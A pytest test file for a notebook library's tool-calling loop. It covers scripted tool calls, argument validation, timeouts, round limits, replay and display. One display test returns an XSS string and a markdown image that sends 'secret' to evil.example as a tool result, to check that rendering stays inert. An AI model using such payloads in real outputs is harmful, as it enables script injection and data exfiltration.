"""Function tools and the conversation loop, on the scripted engine (no vLLM).

The scripted model calls a tool while its prompt holds no tool result yet, and answers
with the last result once it does; every surface (complete, complete_batch, stream,
%%gptoss, reproduce) runs the same loop.
"""

from __future__ import annotations

import json
import os
import re
import signal
import sys
import threading
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Annotated, Any, Literal, Optional

import pytest
from IPython.core.error import UsageError
from IPython.core.interactiveshell import InteractiveShell
from pydantic import BaseModel, Field

import gptoss_magics as gm
from gptoss_magics import display
from gptoss_magics import harmony as H
from gptoss_magics.engine import Sampling, ScriptedEngine
from gptoss_magics.engine.scripted import harmony_completion
from gptoss_magics.errors import InvalidOptionError, MissingDependencyError
from gptoss_magics.options import Options
from gptoss_magics.prompting import StreamHandle
from gptoss_magics.settings import GptOssSettings
from gptoss_magics.tools import (
    Conversation,
    FunctionTool,
    ToolCall,
    function_tool,
    resolve_tools,
    tools_identity,
)

FX_ARGS = {"base": "EUR", "quote": "USD", "date": "2026-03-31"}
RESULT = re.compile(r"<\|start\|>(functions\.\w+|python) to=assistant<\|channel\|>\w+"
                    r"<\|message\|>(.*?)<\|end\|>", re.S)


def fx_rate(base: str, quote: str, date: str) -> float:
    """Closing FX rate from the desk's own database.

    Rates are end of day."""
    return {"EUR": 1.0821, "GBP": 1.2644}.get(base, 1.0)


def call_ids(recipient: str, text: str, analysis: str = "I need the tool.") -> list[int]:
    """A completion that calls ``recipient`` with ``text``."""
    ctype = "" if recipient == "python" else " <|constrain|>json"
    channel = "analysis" if recipient == "python" else "commentary"
    return list(H.encoding().encode(
        f"<|channel|>analysis<|message|>{analysis}<|end|><|start|>assistant"
        f"<|channel|>{channel} to={recipient}{ctype}<|message|>{text}<|call|>",
        allowed_special="all"))


def results(ids: Sequence[int]) -> list[str]:
    """The tool results a prompt holds, in order."""
    return [m.group(2) for m in RESULT.finditer(H.decode(ids))]


def answer(result: str, sampling: Sampling) -> list[int]:
    if sampling.choice:
        return harmony_completion(sampling.choice[0], "The tool answered.")
    if sampling.json_schema is not None:
        return harmony_completion(json.dumps({"rate": float(result)}), "The tool answered.")
    return harmony_completion(f"rate {result}", "The tool answered.")


def tool_script(arguments: Any = None, name: str = "functions.fx_rate", calls: int = 1
                ) -> Callable[[list[int], Sampling], list[int]]:
    """Calls ``name`` until the prompt holds ``calls`` results, then answers with the last.
    ``arguments`` is JSON data or raw text; by default the user's message, if it is
    JSON, else FX_ARGS."""

    def script(ids: list[int], sampling: Sampling) -> list[int]:
        seen = results(ids)
        if len(seen) >= calls:
            return answer(seen[-1], sampling)
        args = arguments
        if args is None:
            user = H.decode(ids).rsplit("<|start|>user<|message|>", 1)[1].split("<|end|>")[0]
            args = json.loads(user) if user.startswith("{") else FX_ARGS
        return call_ids(name, args if isinstance(args, str) else json.dumps(args))

    return script


def prompts(engine: ScriptedEngine) -> list[str]:
    return [H.decode(r.prompt_ids) for r in engine.requests]


# ---------------------------------------------------------------------- the loop
def test_a_function_tool_end_to_end(scripted: ScriptedEngine) -> None:
    scripted.script = tool_script()
    reply = gm.complete("EUR/USD on 2026-03-31?", tools=[fx_rate])
    assert reply.final == "rate 1.0821" and reply.ok and reply.warning is None
    [call] = reply.tool_calls
    assert (call.name, call.arguments, call.result, call.error) == \
        ("functions.fx_rate", FX_ARGS, 1.0821, None)
    assert call.output == "1.0821" and call.latency_s >= 0
    first, second = scripted.requests
    assert "type fx_rate = (_: {" in H.decode(first.prompt_ids)
    assert "// Closing FX rate from the desk's own database." in H.decode(first.prompt_ids)
    continuation = list(first.prompt_ids) + call_ids("functions.fx_rate", json.dumps(FX_ARGS)) \
        + H.tool_result_ids("functions.fx_rate", "1.0821")
    assert list(second.prompt_ids) == continuation  # token extension: the prefix is reused
    assert reply.analysis == "I need the tool.\n\nThe tool answered."  # no call arguments
    assert reply.prompt_tokens == len(first.prompt_ids) + len(
        H.tool_result_ids("functions.fx_rate", "1.0821"))
    assert reply.completion_tokens == len(continuation) - len(first.prompt_ids) - len(
        H.tool_result_ids("functions.fx_rate", "1.0821")) + len(answer("1.0821", Sampling()))
    assert list(reply.token_ids) == continuation[len(first.prompt_ids):] + answer(
        "1.0821", Sampling())
    prov = reply.provenance
    assert prov["tools"][0]["name"] == "fx_rate" and prov["max_tool_rounds"] == 8
    assert prov["tools"][0]["declaration"]["parameters"]["required"] == ["base", "quote", "date"]
    assert prov["tool_calls"][0]["name"] == "functions.fx_rate"
    data = reply.to_dict()
    assert data["tool_calls"][0]["result"] == 1.0821
    json.dumps(data)


def test_complete_batch_runs_each_round_in_one_batch(scripted: ScriptedEngine) -> None:
    scripted.script = tool_script()
    asks = [json.dumps({**FX_ARGS, "base": b}) for b in ("EUR", "GBP", "JPY")]
    replies = gm.complete_batch(asks, tools=[fx_rate])
    assert [r.final for r in replies] == ["rate 1.0821", "rate 1.2644", "rate 1.0"]
    assert [r.tool_calls[0].arguments["base"] for r in replies] == ["EUR", "GBP", "JPY"]
    jobs = [r.job_id for r in scripted.requests]
    assert len(set(jobs)) == 2 and jobs.count(jobs[0]) == 3  # two rounds of three


def test_stream_yields_every_round_and_the_tool_step(scripted: ScriptedEngine) -> None:
    scripted.script = tool_script()
    pieces = list(gm.stream("EUR/USD?", tools=[fx_rate]))
    reply = pieces.pop()
    assert isinstance(reply, gm.Reply) and reply.final == "rate 1.0821"
    channels = [c for c, _ in pieces]
    tool = channels.index("tool")
    assert "analysis" in channels[:tool] and channels[-1] == "final"
    assert pieces[tool][1] == display.trail(reply)[0] + "\n"
    assert pieces[tool][1].startswith('fx_rate({"base": "EUR"') and "→ 1.0821" in pieces[tool][1]
    assert "".join(t for c, t in pieces if c == "final") == reply.final
    assert len(reply.tool_calls) == 1


@pytest.mark.scripted(step_s=0.01, tokens_per_step=1)
def test_an_aborted_stream_keeps_the_trail(scripted: ScriptedEngine) -> None:
    scripted.script = tool_script()
    handle = StreamHandle("EUR/USD?", tools=[fx_rate])
    stream = handle.deltas()
    for channel, _ in stream:
        if channel == "tool":
            break
    next(stream)  # the second round has started
    stream.close()
    reply = handle.reply()
    assert reply.finish_reason == "abort" and reply.truncated and not reply.ok
    assert [c.result for c in reply.tool_calls] == [1.0821]
    assert "interrupted" in (reply.warning or "")
    assert handle.partial("", "").tool_calls == reply.tool_calls


def test_an_interrupt_during_a_call_keeps_the_reply(scripted: ScriptedEngine) -> None:
    release = threading.Event()

    def slow(base: str, quote: str, date: str) -> float:
        """Slow."""
        os.kill(os.getpid(), signal.SIGINT)  # the user presses Ctrl-C meanwhile
        release.wait(10)
        return 1.0

    scripted.script = tool_script(name="functions.slow")
    handle = StreamHandle("EUR/USD?", tools=[slow])
    with pytest.raises(KeyboardInterrupt):
        for _ in handle.deltas():
            pass
    release.set()
    reply = handle.reply()
    assert reply.finish_reason == "abort" and reply.tool_calls == ()
    assert len(scripted.requests) == 1  # nothing ran after the interrupt


def test_the_magic_runs_tools_from_the_notebook(scripted: ScriptedEngine,
                                                ip: InteractiveShell) -> None:
    scripted.script = tool_script()
    ip.user_ns["fx_rate"] = fx_rate
    ip.run_cell_magic("gptoss", "--tools fx_rate -o r", "EUR/USD on {when}?".replace(
        "{when}", "2026-03-31"))
    reply = ip.user_ns["r"]
    assert reply.final == "rate 1.0821" and reply.tool_calls[0].result == 1.0821
    data, _ = ip.display_pub.last()
    assert "Tool call (1)" in data["text/html"] and "fx_rate(" in data["text/html"]
    assert data[display.MIME]["tool_trail"] == display.trail(reply)
    with pytest.raises(UsageError, match="--tools nope: no such function in the notebook"):
        ip.run_cell_magic("gptoss", "--tools fx_rate,nope", "Hello")
    with pytest.raises(UsageError, match="invalid tool name list value"):
        ip.run_cell_magic("gptoss", "--tools 'a b'", "Hello")
    ip.user_ns["five"] = 5
    with pytest.raises(UsageError, match="tools takes functions"):
        ip.run_cell_magic("gptoss", "--tools five", "Hello")
    assert len(scripted.requests) == 2


# ---------------------------------------------------------------------- failing calls
def run_one(scripted: ScriptedEngine, script: Callable[..., list[int]], tool: Any,
            **options: Any) -> gm.Reply:
    scripted.script = script
    return gm.complete("EUR/USD?", tools=[tool], **options)


@pytest.mark.parametrize(("arguments", "error"), [
    ('{"base": "EUR", ', "the arguments are not valid JSON"),
    ('["EUR"]', "the arguments must be a JSON object with the parameters of fx_rate, not list"),
    ({"base": "EUR"}, "invalid arguments for fx_rate: quote: Field required; date: Field "
                      "required"),
    ({**FX_ARGS, "base": 5}, "base: Input should be a valid string"),
    ({**FX_ARGS, "extra": 1}, "extra: Extra inputs are not permitted"),
])
def test_bad_arguments_go_back_to_the_model(scripted: ScriptedEngine, arguments: Any,
                                            error: str) -> None:
    called: list[Any] = []

    def fx_rate(base: str, quote: str, date: str) -> float:
        called.append(base)
        return 1.0

    reply = run_one(scripted, tool_script(arguments), fx_rate)
    [call] = reply.tool_calls
    assert call.error is not None and error in call.error and called == []
    assert call.output == f"Error: {call.error}"
    assert results(scripted.requests[-1].prompt_ids) == [call.output]  # the model read it
    assert reply.final == f"rate {call.output}" and reply.ok  # and the loop went on


def test_a_raising_tool_never_raises_into_the_notebook(scripted: ScriptedEngine) -> None:
    def fx_rate(base: str, quote: str, date: str) -> float:
        raise ValueError(f"no rate for {date}")

    reply = run_one(scripted, tool_script(), fx_rate)
    assert reply.tool_calls[0].error == "fx_rate raised ValueError: no rate for 2026-03-31"
    assert reply.final == "rate Error: fx_rate raised ValueError: no rate for 2026-03-31"


def test_a_hung_tool_times_out_and_the_loop_goes_on(scripted: ScriptedEngine) -> None:
    release = threading.Event()

    def fx_rate(base: str, quote: str, date: str) -> float:
        release.wait(30)
        return 1.0

    try:
        reply = run_one(scripted, tool_script(), fx_rate, tool_timeout_s=0.2)
    finally:
        release.set()
    [call] = reply.tool_calls
    assert call.error == ("fx_rate did not return within 0.2 s (timed out); it was left "
                          "running and its result will not be used")
    assert reply.final.startswith("rate Error: fx_rate did not return") and reply.ok


def test_an_unknown_tool_gets_an_error_back(scripted: ScriptedEngine) -> None:
    reply = run_one(scripted, tool_script(name="functions.wire_money"), fx_rate)
    [call] = reply.tool_calls
    assert call.name == "functions.wire_money" and call.result is None
    assert call.error == ("there is no tool named 'functions.wire_money'; the tools are: "
                          "functions.fx_rate")


def test_the_round_limit(scripted: ScriptedEngine) -> None:
    reply = run_one(scripted, tool_script(calls=99), fx_rate, max_tool_rounds=2)
    assert len(scripted.requests) == 4  # two calls, one refused, then it called again
    assert [c.error for c in reply.tool_calls] == [
        None, None, "tool round limit reached (2 calls): answer now without calling tools"]
    assert reply.tool_limit_hit and not reply.ok and reply.final == ""
    assert reply.warning == ("the model kept calling tools after 2 calls (max_tool_rounds); "
                             "it was told to answer without them and gave no answer")
    heeds = run_one(scripted, tool_script(calls=3), fx_rate, max_tool_rounds=2)
    assert heeds.final.startswith("rate Error: tool round limit") and heeds.tool_limit_hit
    assert "gave no answer" not in (heeds.warning or "")


def test_a_huge_result_is_cut_with_a_note(scripted: ScriptedEngine) -> None:
    def fx_rate(base: str, quote: str, date: str) -> str:
        return "x" * 20_000

    reply = run_one(scripted, tool_script(), fx_rate)
    call = reply.tool_calls[0]
    assert len(call.result) == 20_000 and call.error is None
    assert call.output == "x" * 8000 + ("\n[truncated: the result has 20,000 characters; only "
                                        "the first 8,000 are shown]")
    small = run_one(scripted, tool_script(), function_tool(fx_rate, max_result_chars=10))
    assert small.tool_calls[0].output.startswith("x" * 10 + "\n[truncated")


def test_a_constraint_applies_to_the_answer_after_the_chain(scripted: ScriptedEngine) -> None:
    reply = run_one(scripted, tool_script(), fx_rate, choices=["yes", "no"])
    assert reply.value == "yes" and reply.tool_calls[0].result == 1.0821
    assert all(r.sampling.choice == ("yes", "no") for r in scripted.requests)

    class Rate(BaseModel):
        rate: float

    typed = run_one(scripted, tool_script(), fx_rate, schema=Rate)
    assert typed.value == Rate(rate=1.0821)


def test_results_are_json_and_pydantic_aware(scripted: ScriptedEngine) -> None:
    class Quote(BaseModel):
        rate: float
        when: str

    def fx_rate(base: str, quote: str, date: str) -> Quote:
        return Quote(rate=1.08, when=date)

    reply = run_one(scripted, tool_script(), fx_rate)
    assert reply.tool_calls[0].output == '{"rate": 1.08, "when": "2026-03-31"}'
    assert reply.to_dict()["tool_calls"][0]["result"] == {"rate": 1.08, "when": "2026-03-31"}


# ---------------------------------------------------------------------- reproduce, audit
def test_reproduce_replays_the_recorded_results(scripted: ScriptedEngine) -> None:
    rates = {"EUR": 1.0821}
    called: list[str] = []

    def fx_rate(base: str, quote: str, date: str) -> float:
        """Closing FX rate."""
        called.append(base)
        return rates[base]

    reply = run_one(scripted, tool_script(), fx_rate)
    assert called == ["EUR"] and reply.final == "rate 1.0821"
    rates["EUR"] = 9.99  # the tool would answer differently today
    again = gm.reproduce(reply)
    assert again.identical and again.same_calls and called == ["EUR"]  # not called again
    assert again.again.tool_calls[0].output == "1.0821" and again.again.final == reply.final
    assert again.again.tool_calls[0].result == 1.0821
    saved = json.loads(json.dumps(reply._repr_mimebundle_()[0][display.MIME]))
    assert gm.reproduce(saved).identical  # from a saved notebook output
    scripted.script = tool_script({**FX_ARGS, "base": "GBP"})  # the model asks otherwise
    other = gm.reproduce(reply)
    assert not other.same_calls and not other.identical and "different tool calls" in repr(other)
    assert "is not in the recorded reply, so it was not run" in \
        (other.again.tool_calls[0].error or "")
    assert called == ["EUR"]


def test_reproduce_refuses_a_malformed_record(scripted: ScriptedEngine) -> None:
    data = run_one(scripted, tool_script(), fx_rate).to_dict()
    for key, value, message in [
            ("tool_calls", "x", "the recorded tool_calls must be a list"),
            ("tool_calls", [{"name": 5}], "a recorded tool call must have a name"),
            ("tools", [{"declaration": None}], "a recorded tool has no recipient"),
            ("tools", [{"recipient": "functions.f", "declaration": {"name": 1}}],
             "the recorded declaration of functions.f")]:
        broken = json.loads(json.dumps(data))
        (broken["provenance"] if key == "tools" else broken)[key] = value
        with pytest.raises(InvalidOptionError, match=message):
            gm.reproduce(broken)


def test_the_audit_log_records_the_trail(scripted: ScriptedEngine, tmp_path: Path,
                                         fresh_settings: GptOssSettings) -> None:
    fresh_settings.audit_log = str(tmp_path / "audit.jsonl")
    reply = run_one(scripted, tool_script(), fx_rate)
    gm.reproduce(reply)
    first, second = [json.loads(x) for x in (tmp_path / "audit.jsonl").read_text().splitlines()]
    assert first["tool_calls"][0]["arguments"] == FX_ARGS
    assert first["tool_calls"][0]["output"] == "1.0821"
    assert first["provenance"]["tools"][0]["function"].endswith("fx_rate")
    assert second["kind"] == "reproduction" and second["same_calls"] is True


# ---------------------------------------------------------------------- display
EVIL = ('<script>alert(1)</script><img src=x onerror=alert(2)> '
        '![x](https://evil.example/p.png?d=secret)')


def test_the_trail_shows_in_every_form_and_is_inert(scripted: ScriptedEngine) -> None:
    from test_display_safety import assert_inert, renderings_of_markdown

    def fx_rate(base: str, quote: str, date: str) -> str:
        return EVIL

    reply = run_one(scripted, tool_script(), fx_rate)
    for show in (True, False):
        data, _ = display.reply_bundle(reply, show_reasoning=show)
        text = data["text/plain"]
        assert text.index("--- tool call (1)") < text.index("--- answer ---") \
            < text.index("rate <script>")
        assert EVIL in text  # plain text is shown as text
        html = data["text/html"]
        assert_inert(html, "text/html", own_style=True)
        assert "&lt;script&gt;" in html and html.index("Tool call (1)") < \
            html.index("gptoss-final")
        assert_inert(display.to_html(reply, show, streaming=True), "stream", own_style=True)
        for name, rendered in renderings_of_markdown(data["text/markdown"]):
            assert_inert(rendered, f"markdown via {name}")
            assert "Tool call (1)" in rendered
        bundle = data[display.MIME]
        assert bundle["tool_trail"] == [f'fx_rate({json.dumps(FX_ARGS)}) → {EVIL} '
                                        f'({reply.tool_calls[0].latency_s:.2f} s)']
        assert bundle["tool_calls"][0]["output"] == EVIL  # data, verbatim
    assert "1 tool call" in display.footer(reply)


# ---------------------------------------------------------------------- tools themselves
class Point(BaseModel):
    """A point on the plane."""

    x: float
    y: float = 0.0


def many(name: str, count: int, ratio: float, flag: bool, tags: list[str],
         maybe: Optional[int], kind: Literal["a", "b"], point: Point,  # noqa: UP045
         note: Annotated[str, Field(description="a note")] = "none", limit: int = 3) -> str:
    """Use every kind of parameter.

    Second paragraph, not shown."""
    return f"{name}{count}{ratio}{flag}{tags}{maybe}{kind}{point.x}{note}{limit}"


def test_schemas_from_type_hints() -> None:
    tool = FunctionTool(many)
    spec = tool.declaration()
    assert (spec.name, spec.description) == ("many", "Use every kind of parameter.")
    props = spec.parameters["properties"]
    assert props["name"] == {"type": "string"} and props["count"] == {"type": "integer"}
    assert props["ratio"] == {"type": "number"} and props["flag"] == {"type": "boolean"}
    assert props["tags"] == {"type": "array", "items": {"type": "string"}}
    assert props["maybe"] == {"type": ["integer", "null"]}
    assert props["kind"] == {"type": "string", "enum": ["a", "b"]}
    assert props["point"]["properties"]["x"] == {"type": "number"}
    assert props["point"]["description"] == "A point on the plane."
    assert props["note"] == {"type": "string", "description": "a note", "default": "none"}
    assert props["limit"] == {"type": "integer", "default": 3}
    assert spec.parameters["required"] == ["name", "count", "ratio", "flag", "tags", "maybe",
                                           "kind", "point"]
    assert "title" not in json.dumps(spec.parameters) and "$ref" not in json.dumps(spec.parameters)
    rendered = H.decode(H.render_prompt("x", tools=[spec]))
    assert 'kind: "a" | "b",' in rendered and "tags: string[]," in rendered
    assert "limit?: number, // default: 3" in rendered
    args = {"name": "n", "count": "2", "ratio": 1, "flag": True, "tags": ["t"], "maybe": None,
            "kind": "b", "point": {"x": 1}}
    out = tool.run(json.dumps(args), 5)
    assert out.value == "n21.0True['t']Noneb1.0none3" and out.error is None


def test_names_that_clash_with_pydantic_and_positional_only_parameters() -> None:
    def lookup(schema: str, json: int, model_config: str = "c", /) -> str:
        return f"{schema}{json}{model_config}"

    tool = FunctionTool(lookup)
    assert set(tool.parameters["properties"]) == {"schema", "json", "model_config"}
    assert tool.run('{"schema": "s", "json": 1}', 5).value == "s1c"


@pytest.mark.parametrize(("fn", "message"), [
    (lambda *values: 0, "it takes \\*values"),
    (lambda **kw: 0, "it takes \\*\\*kw"),
])
def test_signatures_that_cannot_be_tools(fn: Callable[..., Any], message: str) -> None:
    with pytest.raises(InvalidOptionError, match=message) as info:
        FunctionTool(fn, name="f")
    assert len(str(info.value).splitlines()) == 1


def test_a_tool_needs_a_name_and_a_resolvable_hint() -> None:
    with pytest.raises(InvalidOptionError, match="Python-style identifier"):
        FunctionTool(lambda: 0)
    assert FunctionTool(lambda: 0, name="zero", description="Zero.").declaration().description \
        == "Zero."

    def hinted(x: Undefined) -> int:  # type: ignore[name-defined]  # noqa: F821
        return 0

    with pytest.raises(InvalidOptionError, match=r"type hint of 'x' \(Undefined\) cannot be"):
        FunctionTool(hinted)


def test_resolving_tools(monkeypatch: pytest.MonkeyPatch) -> None:
    assert resolve_tools(None) == () and resolve_tools([]) == ()
    [one] = resolve_tools(fx_rate)
    assert one.recipient == "functions.fx_rate"
    tool = function_tool(name="rate")(fx_rate)
    assert resolve_tools([tool])[0] is tool
    with pytest.raises(InvalidOptionError, match=r"two tools are named 'functions\.fx_rate'"):
        resolve_tools([fx_rate, fx_rate])
    with pytest.raises(InvalidOptionError, match="not the string 'fx_rate'"):
        resolve_tools(["fx_rate"])
    with pytest.raises(InvalidOptionError, match="not int"):
        resolve_tools([5])
    with pytest.raises(InvalidOptionError, match="tools must be a list"):
        resolve_tools({"f": fx_rate})
    monkeypatch.setitem(sys.modules, "gptoss_magics.tools.python", None)
    with pytest.raises(MissingDependencyError, match="the python tool is not part"):
        resolve_tools(["python"])
    with pytest.raises(InvalidOptionError, match="max_tool_rounds"):
        Options.resolve(tools=[fx_rate], max_tool_rounds=-1)
    with pytest.raises(InvalidOptionError, match="tool_timeout_s"):
        Options.resolve(tools=[fx_rate], tool_timeout_s=0)


def test_tools_identity_covers_names_and_schemas() -> None:
    [ident] = tools_identity(resolve_tools([fx_rate]))
    assert ident["recipient"] == "functions.fx_rate" and ident["kind"] == "function"
    assert ident["declaration"]["parameters"] == FunctionTool(fx_rate).parameters
    assert ident["function"] == f"{__name__}.fx_rate"
    json.dumps(ident)


def test_surfaces_that_do_not_run_tools_refuse_them(scripted: ScriptedEngine) -> None:
    with pytest.raises(InvalidOptionError, match="this surface does not run tools yet"):
        gm.compare_efforts("x", repeats=1, tools=[fx_rate])  # (maps do: test_tools_map.py)
    assert scripted.requests == []


def test_a_conversation_can_be_driven_by_hand(scripted: ScriptedEngine) -> None:
    """What a map does: feed completions, run the pending calls elsewhere."""
    ids = Options.resolve(tools=[fx_rate]).render("EUR/USD?", run_tools=True)
    conv = Conversation(ids, [FunctionTool(fx_rate)])
    scripted.script = tool_script()
    while (prompt := conv.next_prompt()) is not None:
        [done] = scripted.generate([prompt], Sampling())
        pending = conv.feed(done, run=False)
        if pending is not None:
            assert conv.next_prompt() is None  # nothing to generate while a call waits
            assert pending.recipient == "functions.fx_rate"
            call = conv.run_pending()
            assert isinstance(call, ToolCall) and call.result == 1.0821
    conv.close()
    assert conv.done and len(conv.rounds) == 2 and conv.rounds[-1].parsed.final == "rate 1.0821"


def test_a_conversation_record_replays_without_running_a_tool(scripted: ScriptedEngine
                                                              ) -> None:
    """What a Ray replica sends back: the rebuilt conversation is the one that ran, and
    rebuilding it calls nothing."""
    ran: list[int] = []

    def fx(base: str, quote: str, date: str) -> float:
        """Closing FX rate."""
        ran.append(1)
        return 1.0821

    scripted.script = tool_script(FX_ARGS, name="functions.fx", calls=2)
    tools = resolve_tools([fx])
    prompt = [200006, 17360, 200008, 200007]
    conv = Conversation(prompt, tools, max_rounds=1)
    sampling = Sampling(max_tokens=64)
    while (ids := conv.next_prompt()) is not None:
        conv.feed(scripted.generate([ids], sampling)[0])
    conv.close()
    assert len(ran) == 1 and conv.limit_hit  # one call ran, the second was refused
    record = json.loads(json.dumps(conv.record()))
    again = Conversation.replayed(prompt, tools, record, max_rounds=1)
    assert len(ran) == 1
    assert again.transcript_ids == conv.transcript_ids and again.done and again.limit_hit
    assert again.calls == conv.calls  # latencies included: the replica's own
    assert (again.analysis(), again.completion_tokens, again.result_tokens) == \
        (conv.analysis(), conv.completion_tokens, conv.result_tokens)
    assert again.elapsed_s == conv.elapsed_s
